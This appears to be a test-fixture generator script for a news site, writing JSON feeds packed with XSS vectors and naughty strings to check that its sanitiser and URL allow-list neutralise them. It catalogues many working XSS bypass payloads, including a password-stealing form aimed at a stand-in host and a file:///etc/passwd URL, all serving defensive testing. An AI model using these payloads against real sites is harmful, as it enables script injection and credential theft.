// Writes two hostile editions for the browser test tests/e2e/hostile-feed.spec.ts:
//   en.json — XSS vectors of our own in every feed field that carries a URL or text;
//   de.json — the strings of big-list-of-naughty-strings in every text field.
// Both follow the real feed contract (JSON Feed 1.1, item ids, `_news` sections) so that every item
// passes validation and reaches an article page. Usage: node scripts/make-hostile-feeds.mjs <out-dir>
//
// The vectors try to run `top.__xss = <n>` (n names the vector: grep the generated en.json for
// `__xss=<n>` to find which one ran), `window.__xss++`, or to open a dialog. The test page starts
// with `window.__xss = 0` and fails on any change and on any dialog.
import { mkdirSync, writeFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { join } from 'node:path';

const LIMITS = { title: 300, text: 2000, name: 120, tag: 60 };

let counter = 0;
/** A payload that records which vector ran. No spaces: URL fields reject whitespace outright. */
const hit = () => `top.__xss=${++counter}`;
const b64 = (text) => Buffer.from(text).toString('base64');

/* ------------------------------------------------------------------------------------------------
 * Text: strings that must show up as the very characters written, whatever field they are in.
 * --------------------------------------------------------------------------------------------- */
const TEXT = [
  `<script>${hit()};alert(1)</script>`,
  `<img src=x onerror=${hit()}>`,
  `"><svg onload=${hit()}>`,
  `'><img src=/nope.png onerror=alert(document.domain)>`,
  `</title><script>${hit()}</script>`,
  `</script><script>${hit()}</script>`,
  `<!--<script>${hit()}</script>`,
  `</textarea></style></noscript><img src=x onerror=window.__xss++>`,
  '&lt;b&gt;already escaped&lt;/b&gt; &amp;amp; &#60;i&#62;',
  `{{constructor.constructor('${hit()}')()}}`,
  `\${${hit()}}`,
  `javascript:${hit()}`,
  `<a href="javascript:${hit()}">read me</a>`,
  `<iframe srcdoc="<script>parent.__xss=${++counter}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${hit()}">`,
  '<base href="https://evil.example/">',
  'Line\u2028separators\u2029and </SCRIPT > tags',
  `<math><mtext><table><mglyph><style><img src=x onerror=${hit()}>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit()}>">`,
  '<img name=getElementById><form id=query-state>',
  `" autofocus onfocus="${hit()}" x="`,
  `%3Cscript%3E${hit()}%3C/script%3E`,
  `\\u003cscript\\u003e${hit()}\\u003c/script\\u003e`,
  `<svg><animate onbegin=${hit()} attributeName=x dur=1s>`,
  `<details open ontoggle=${hit()}>`,
  `]]><![CDATA[<img src=x onerror=${hit()}>`,
];

/* ------------------------------------------------------------------------------------------------
 * URLs: the allow-list (src/lib/url.ts) must drop all of these.
 * --------------------------------------------------------------------------------------------- */
const BAD_URLS = [
  `javascript:${hit()}`,
  `JaVaScRiPt:${hit()}`,
  `  javascript:${hit()}`,
  `java\tscript:${hit()}`,
  `java\nscript:${hit()}`,
  `java\rscript:${hit()}`,
  `\u0001javascript:${hit()}`,
  `\u0000javascript:${hit()}`,
  `javascript\u0000:${hit()}`,
  `\u00a0javascript:${hit()}`,
  `&#106;avascript:${hit()}`,
  `&#x6A;&#x61;&#x76;&#x61;script:${hit()}`,
  `javascript&colon;${hit()}`,
  `javascript://%0A${hit()}`,
  `javascript:/*--></script><script>${hit()}</script>`,
  `data:text/html,<script>${hit()}</script>`,
  `data:text/html;base64,${b64(`<script>${hit()}</script>`)}`,
  `DATA:image/svg+xml,<svg/onload=${hit()}>`,
  `data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${hit()}"/>`)}`,
  'vbscript:msgbox(1)',
  `VbScRiPt:${hit()}`,
  '//evil.example/pixel.png',
  '/\\evil.example/pixel.png',
  '\\\\evil.example\\pixel.png',
  '/\t/evil.example/',
  'file:///etc/passwd',
  'blob:https://evil.example/0b9a',
  'about:blank',
  `feed:javascript:${hit()}`,
  'jar:https://evil.example/x.jar!/',
];

/**
 * URLs the allow-list keeps (http(s) or a same-site path) but that try to break out of the
 * attribute they are written into, or to look like something else. They must land as inert,
 * escaped attribute values; outside ones must carry rel="noopener noreferrer".
 */
const SLY_URLS = [
  `https://evil.example/"><img/src=x/onerror=${hit()}>`,
  `https://evil.example/'onmouseover='${hit()}`,
  `/images/missing.svg"onerror="${hit()}`,
  `/en/'><script>${hit()}</script>`,
  `https://evil.example/?q=</script><script>${hit()}</script>`,
  'HTTPS://EVIL.EXAMPLE/LOUD',
  'https://meridian.example@evil.example/',
];

/** Images that exist, some with an attribute breakout in the query (the file still loads). */
const IMAGES = [
  '/images/story-001.svg',
  `/images/story-002.svg?"onerror="${hit()}`,
  `/images/story-003.svg?'><svg/onload=${hit()}>`,
  `/images/missing-${counter}.svg"onerror="${hit()}`,
];

/* ------------------------------------------------------------------------------------------------
 * Article bodies: one family of vectors per story.
 * --------------------------------------------------------------------------------------------- */
const BODIES = [
  {
    family: 'script elements',
    html: [
      `<script>${hit()};alert(1)</script>`,
      '<SCRIPT SRC=/evil.js></SCRIPT>',
      `<ScRiPt type="module">${hit()}</ScRiPt>`,
      `<scr<script>x</script>ipt>${hit()}</scr<script>x</script>ipt>`,
      `<script>/*</script><img src=x onerror=${hit()}>*/</script>`,
      `<script\x0c>${hit()}</script>`,
      `<script/x>${hit()}</script>`,
      `<p>Text <script>window.__xss++</script>after a script.</p>`,
    ],
  },
  {
    family: 'event handlers',
    html: [
      `<img src=/images/missing.png onerror="${hit()}">`,
      `<img src onerror=${hit()}>`,
      `<IMG SRC=x OnErRoR=${hit()}>`,
      `<img/src=x/onerror=${hit()}>`,
      `<img src=x onerror=&#116;&#111;&#112;.__xss=${++counter}>`,
      `<body onload=${hit()}>`,
      `<input autofocus onfocus=${hit()}>`,
      `<div tabindex=0 autofocus onfocus=${hit()}>focus me</div>`,
      `<a href=/ autofocus onfocus=${hit()}>a link with focus</a>`,
      `<select autofocus onfocus=${hit()}></select><textarea autofocus onfocus=${hit()}></textarea>`,
      `<details open ontoggle=${hit()}><summary>open</summary></details>`,
      `<video><source onerror=${hit()}></video><audio src=x onerror=${hit()}></audio>`,
      `<marquee onstart=${hit()}>scroll</marquee>`,
      `<p onmouseover=${hit()} onclick=${hit()} onpointerenter=${hit()}>Hover or click this paragraph.</p>`,
      `<p popover id=p onbeforetoggle=${hit()}>popover</p>`,
      `<div contenteditable autofocus onfocusin=${hit()}>editable</div>`,
      `<img src=x:${counter} onerror=eval(src)>`,
      `<style onload=${hit()}></style><link rel=stylesheet href=/x.css onload=${hit()}>`,
    ],
  },
  {
    family: 'dangerous link schemes',
    html: [
      `<a href="javascript:${hit()}">plain javascript</a>`,
      `<a href="JaVaScRiPt:${hit()}">mixed case</a>`,
      `<a href="  javascript:${hit()}">leading spaces</a>`,
      `<a href="java&#x09;script:${hit()}">entity tab</a>`,
      `<a href="java&#10;script:${hit()}">entity newline</a>`,
      `<a href="java\nscript:${hit()}">raw newline</a>`,
      `<a href="&#x01;javascript:${hit()}">control character</a>`,
      `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${hit()}">all entities</a>`,
      `<a href="&#0000106&#0000097vascript:${hit()}">padded entities</a>`,
      `<a href="javascript&colon;${hit()}">named colon</a>`,
      `<a href="jav&Tab;ascript:${hit()}">named tab</a>`,
      `<a href="javascript:%74op.__xss=${++counter}">percent-encoded</a>`,
      `<a href="data:text/html;base64,${b64(`<script>${hit()}</script>`)}">data html</a>`,
      `<a href="vbscript:msgbox(1)">vbscript</a>`,
      `<img src="javascript:${hit()}"><img src="data:image/svg+xml,<svg/onload=${hit()}>">`,
      `<blockquote cite="javascript:${hit()}">quoted</blockquote><q cite="data:text/html,x">q</q>`,
      '<a href="//evil.example/">protocol-relative</a><a href="/\\evil.example/">backslash</a>',
      `<img srcset="javascript:${hit()} 1x, https://evil.example/a.png 2x" src=/images/story-001.svg>`,
      `<a href="https://ok.example/" xlink:href="javascript:${hit()}">xlink</a>`,
    ],
  },
  {
    family: 'SVG and MathML',
    html: [
      `<svg><script>${hit()}</script></svg>`,
      `<svg onload=${hit()}>`,
      `<svg><animate onbegin=${hit()} attributeName=x dur=1s></animate></svg>`,
      `<svg><set attributeName=onmouseover to=${hit()}></set></svg>`,
      `<svg><a xlink:href="javascript:${hit()}"><text x=20 y=20>svg link</text></a></svg>`,
      `<svg><foreignObject><img src=x onerror=${hit()}></foreignObject></svg>`,
      `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id=x xmlns="http://www.w3.org/2000/svg"><image href=x onerror="${hit()}"/></svg>`)}#x"></use></svg>`,
      `<svg><image href=x onerror=${hit()}></image></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${hit()}></style></mglyph></table></mtext></math>`,
      `<math href="javascript:${hit()}">math link</math>`,
      `<math><maction actiontype=statusline xlink:href="javascript:${hit()}">maction</maction></math>`,
      `<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${hit()}>"></path></textarea></mtext></svg></mglyph></mi></table></mi></math>`,
    ],
  },
  {
    family: 'mutation XSS',
    html: [
      `<noscript><p title="</noscript><img src=x onerror=${hit()}>"></p></noscript>`,
      `<svg></p><style><a id="</style><img src=x onerror=${hit()}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${hit()}>`,
      `<title><img src=x onerror=${hit()}></title>`,
      `<textarea><img src=x onerror=${hit()}></textarea>`,
      `<xmp><img src=x onerror=${hit()}></xmp>`,
      `<noembed><img src=x onerror=${hit()}></noembed><noframes><img src=x onerror=${hit()}></noframes>`,
      `<iframe><img src=x onerror=${hit()}></iframe>`,
      `<style><img src=x onerror=${hit()}></style>`,
      `<p title="</p><img src=x onerror=${hit()}>">attribute holding markup</p>`,
      `<!--><img src=x onerror=${hit()}>-->`,
      `<!-- --!><img src=x onerror=${hit()}> -->`,
      `<![CDATA[><img src=x onerror=${hit()}>]]>`,
      `<table><a href="/"><img src=x onerror=${hit()}>foster-parented</a></table>`,
      `<div><template shadowrootmode=open><img src=x onerror=${hit()}></template></div>`,
      `<template><img src=x onerror=${hit()}></template>`,
      `<select><style></select><img src=x onerror=${hit()}></style></select>`,
      `<svg><style><img src=x onerror=${hit()}></style></svg>`,
      `<a title="a<!--b">c</a><img src=x title="--><img src=x onerror=${hit()}>">`,
    ],
  },
  {
    family: 'DOM clobbering',
    html: [
      '<img name=getElementById src=/images/story-001.svg>',
      '<img name=cookie><img name=body><img name=currentScript>',
      '<form id=query-state data-url="/en/"><input name=textContent value="{}"></form>',
      '<p id="query-state" data-url="/en/">{"queries":[{"queryKey":["x"],"state":{"data":1}}]}</p>',
      '<a id=query-state href="/en/">anchor named like the state</a>',
      '<div id=root>a second root</div><div id=main>a second main</div>',
      '<a id=location href="javascript:top.__xss=1">location</a><a name=defaultView>view</a>',
      '<form name=documentElement><input name=attributes></form>',
      '<embed name=getElementsByTagName><object name=querySelector></object>',
      '<a id=__xss href=/>sentinel twin</a><img name=__xss>',
    ],
  },
  {
    family: 'frames and plug-ins',
    html: [
      `<iframe srcdoc="<script>parent.__xss=${++counter}</script>"></iframe>`,
      `<iframe srcdoc="&lt;img src=x onerror=parent.__xss=${++counter}&gt;"></iframe>`,
      `<iframe src="javascript:parent.__xss=${++counter}"></iframe>`,
      `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
      `<object data="data:text/html;base64,${b64(`<script>parent.__xss=${++counter}</script>`)}"></object>`,
      `<object data="javascript:parent.__xss=${++counter}"></object>`,
      `<embed src="data:image/svg+xml,<svg onload=parent.__xss=${++counter}>">`,
      `<embed src="javascript:${hit()}">`,
      `<frameset onload=${hit()}><frame src="javascript:parent.__xss=${++counter}"></frameset>`,
      '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
    ],
  },
  {
    family: 'page takeover tags',
    html: [
      '<base href="https://evil.example/">',
      '<base target="_blank">',
      `<meta http-equiv="refresh" content="0;url=javascript:${hit()}">`,
      '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
      '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
      '<meta charset="utf-7"><p>+ADw-script+AD4-top.__xss=1+ADw-/script+AD4-</p>',
      '<link rel=import href="https://evil.example/x.html">',
      '<link rel=stylesheet href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example/">',
      '<style>@import "https://evil.example/x.css"; body { display: none }</style>',
      `<p style="background:url(javascript:${hit()})">styled</p>`,
      `<div style="width:expression(${hit()})">expression</div>`,
    ],
  },
  {
    family: 'forms and buttons',
    html: [
      `<form action="javascript:${hit()}"><button>Send</button></form>`,
      `<form><button formaction="javascript:${hit()}">Go</button></form>`,
      `<input type=image src=x onerror=${hit()}>`,
      `<isindex action="javascript:${hit()}" type=image>`,
      '<form action="https://evil.example/steal" method=post><input type=password name=pw></form>',
      `<button popovertarget=x onclick=${hit()}>Button</button>`,
    ],
  },
  {
    family: 'outside links',
    html: [
      '<a href="https://evil.example/one" target="_blank">new tab, no rel</a>',
      '<a href="https://evil.example/two" target=_blank rel=opener>rel opener</a>',
      '<a href="HTTP://EVIL.EXAMPLE/three" target="_blank" rel="noopener">half a rel</a>',
      '<a href="https://evil.example/four" ping="https://evil.example/ping">ping</a>',
      '<a href="/en/news/" target="_top">same site, top</a>',
      '<area href="https://evil.example/" target=_blank>',
      `<a href="https://evil.example/&quot;&gt;&lt;img src=x onerror=${hit()}&gt;">escaped quotes in href</a>`,
      '<a href="https://meridian.example@evil.example/">looks like us</a>',
    ],
  },
  {
    family: 'encoded and look-alike markup',
    html: [
      `&lt;script&gt;${hit()}&lt;/script&gt;`,
      `<p>\\u003cscript\\u003e${hit()}\\u003c/script\\u003e</p>`,
      `<p>%3Cscript%3E${hit()}%3C/script%3E</p>`,
      `<p>+ADw-script+AD4-${hit()}+ADw-/script+AD4-</p>`,
      `<ſcript>${hit()}</ſcript>`,
      `<scrİpt>${hit()}</scrİpt>`,
      `<img src=x onerror\u000b=${hit()}>`,
      `<img src=x \u0000onerror=${hit()}>`,
      `<custom-element onclick=${hit()}>custom</custom-element>`,
      `<x is=custom onclick=${hit()}>is</x>`,
      `<image src=x onerror=${hit()}>`,
    ],
  },
];

/** Bodies carry a visible marker so a test can tell a rendered body from an emptied one. */
const marker = (n) => `Hostile story ${n} still has its words.`;

/* ------------------------------------------------------------------------------------------------
 * The XSS edition.
 * --------------------------------------------------------------------------------------------- */
function pick(list, i) {
  return list[i % list.length];
}

function xssEdition() {
  const sections = [
    { id: 'world', title: `World <script>${hit()}</script>` },
    { id: 'science', title: `Science <img src=x onerror=${hit()}>` },
    { id: 'opinion', title: `"><svg onload=${hit()}> Opinion` },
  ];
  const sectionIds = sections.map((s) => s.id);
  const start = Date.UTC(2026, 10, 27, 9);
  const items = [];
  const add = (item) => items.push(item);

  BODIES.forEach((body, i) => {
    const n = items.length + 1;
    const withImage = i % 2 === 0;
    add({
      id: `hostile-${n}-${body.family.toLowerCase().replace(/[^a-z]+/g, '-')}`,
      title: `${pick(TEXT, i)} ${body.family}`,
      summary: `${pick(TEXT, i + 1)} A story whose body carries ${body.family}. ${pick(TEXT, i + 2)}`,
      content_html: `<p>${marker(n)}</p>${body.html.map((vector) => `${vector}<p>Between vectors.</p>`).join('')}`,
      // Ignored while content_html is there, but still validated: it must not break anything.
      content_text: `${pick(TEXT, i + 3)}\n\n${pick(TEXT, i + 4)}`,
      url: pick(BAD_URLS, i),
      external_url: i % 3 === 0 ? pick(SLY_URLS, i) : pick(BAD_URLS, i + 1),
      image: withImage ? pick(IMAGES, i / 2) : pick(BAD_URLS, i + 2),
      banner_image: pick(BAD_URLS, i + 3),
      date_published: new Date(start - n * 3_600_000 * 7).toISOString(),
      date_modified: new Date(start - n * 3_600_000 * 6).toISOString(),
      language: i === 1 ? `en"><script>${hit()}</script>` : 'en',
      authors: [
        { name: `${pick(TEXT, i + 5)} Reporter`, url: pick(BAD_URLS, i + 4), avatar: pick(BAD_URLS, i + 5) },
        { name: 'Ruth Calder', url: pick(SLY_URLS, i), avatar: pick(SLY_URLS, i + 1) },
      ],
      tags: [pick(TEXT, i + 6), pick(TEXT, i + 7), `<b>tag ${n}</b>`].filter((t) => t.length <= LIMITS.tag),
      _news: {
        section: pick(sectionIds, i),
        editor: `${pick(TEXT, i + 8)} Editor`,
        image_caption: `${pick(TEXT, i + 9)} caption`,
        image_credit: {
          text: `${pick(TEXT, i + 10)} credit`,
          url: pick(SLY_URLS, i + 2),
          license: `${pick(TEXT, i + 11)}`.slice(0, LIMITS.name),
          license_url: i % 4 === 0 ? pick(BAD_URLS, i + 6) : pick(SLY_URLS, i + 3),
        },
        video: i % 5 === 0,
        translations: { de: `"><script>${hit()}</script>`, xx: 'javascript:alert(1)', ['__proto__']: 'x' },
      },
    });
  });

  // Plain-text bodies: every paragraph is a vector that must appear as text.
  const textBodies = [TEXT.slice(0, 13), TEXT.slice(13)];
  textBodies.forEach((paragraphs, j) => {
    const n = items.length + 1;
    add({
      id: `hostile-${n}-plain-text`,
      title: `${pick(TEXT, n)} plain text body`,
      content_text: [marker(n), ...paragraphs].join('\n\n'),
      image: pick(IMAGES, n),
      date_published: new Date(start - n * 3_600_000 * 7).toISOString(),
      author: { name: `${pick(TEXT, n + 1)} (JSON Feed 1.0 author)`, url: pick(SLY_URLS, n) },
      tags: ['<script>tag</script>', 'onerror=alert(1)'],
      _news: {
        section: j === 0 ? `"><img src=x onerror=${hit()}>` : 'opinion',
        image_caption: pick(TEXT, n + 2),
        image_credit: { text: pick(TEXT, n + 3), url: pick(BAD_URLS, n), license: 'CC BY 4.0', license_url: pick(SLY_URLS, n + 1) },
      },
    });
  });

  // A hostile id, date and body all at once, with no title: the headline falls back to the summary.
  add({
    id: `<script>${hit()}</script>`,
    summary: `<img src=x onerror=${hit()}> untitled story`,
    content_html: `<p>${marker(items.length + 1)}</p><h1 onclick=${hit()}>An h1 in the body</h1>`,
    date_published: `<script>${hit()}</script>`,
    _news: { section: 'world' },
  });

  // Make sure the generator keeps within the parser's limits: a clipped title would not match.
  for (const item of items) {
    if (item.title && (item.title.length > LIMITS.title || item.title !== item.title.trim())) {
      throw new Error(`title of ${item.id} would be changed by the parser`);
    }
  }

  return {
    version: 'https://jsonfeed.org/version/1.1',
    title: `Meridian <script>${hit()}</script>`,
    home_page_url: `javascript:${hit()}`,
    feed_url: `data:text/html,<script>${hit()}</script>`,
    description: `"><img src=x onerror=${hit()}> A hostile edition`,
    language: 'en',
    authors: [{ name: `<img src=x onerror=${hit()}> Feed author`, url: `javascript:${hit()}` }],
    _news: {
      sections: [...sections, { id: '"><script>', title: 'not an id' }, { id: 'news', title: 'reserved' }, { id: '__proto__', title: 'prototype' }],
      now_reading: [items[0].id, items[3].id, `<script>${hit()}</script>`, items.at(-1).id],
      popular: [items[2].id, items[5].id, 'constructor', '__proto__'],
    },
    items,
  };
}

/* ------------------------------------------------------------------------------------------------
 * The naughty-strings edition: every string of the list, in every text field, over two rounds.
 * --------------------------------------------------------------------------------------------- */
function naughtyEdition() {
  const strings = createRequire(import.meta.url)('big-list-of-naughty-strings');
  const nonBlank = strings.filter((s) => s.trim() !== '');
  const sections = ['world', 'science', 'sport', 'opinion', 'business'].map((id, i) => ({ id, title: nonBlank[(i * 37) % nonBlank.length] }));
  const SLOTS = 18;
  const ITEMS = Math.ceil((strings.length * 2) / SLOTS);
  const start = Date.UTC(2026, 10, 27, 12);
  const items = [];
  for (let i = 0; i < ITEMS; i++) {
    const s = (k) => strings[(i * SLOTS + k) % strings.length];
    items.push({
      // Ids are naughty too; the index keeps them unique and non-blank.
      id: `${i}:${s(0)}`,
      title: s(0),
      summary: s(1),
      content_text: [s(2), s(3), s(4), s(5), s(6), s(7)].join('\n\n'),
      date_published: i === 7 ? s(8) : new Date(start - i * 3_600_000 * 5).toISOString(),
      authors: [{ name: s(8) }, { name: s(9) }],
      tags: [s(10), s(11), s(12), s(13)],
      image: i % 3 === 0 ? '/images/story-001.svg' : undefined,
      _news: {
        section: sections[i % sections.length].id,
        editor: s(14),
        image_caption: s(15),
        image_credit: { text: s(16), license: s(17) },
      },
    });
  }
  return {
    version: 'https://jsonfeed.org/version/1.1',
    title: nonBlank[3],
    description: nonBlank[5],
    home_page_url: nonBlank[7],
    language: 'de',
    _news: { sections, now_reading: items.slice(0, 4).map((it) => it.id), popular: items.slice(4, 9).map((it) => it.id) },
    items,
  };
}

const outDir = process.argv[2];
if (!outDir) {
  console.error('usage: node scripts/make-hostile-feeds.mjs <out-dir>');
  process.exit(1);
}
mkdirSync(outDir, { recursive: true });
writeFileSync(join(outDir, 'en.json'), `${JSON.stringify(xssEdition(), null, 1)}\n`);
writeFileSync(join(outDir, 'de.json'), `${JSON.stringify(naughtyEdition(), null, 1)}\n`);
console.log(`hostile feeds: ${counter} numbered vectors in ${join(outDir, 'en.json')}, naughty strings in ${join(outDir, 'de.json')}`);
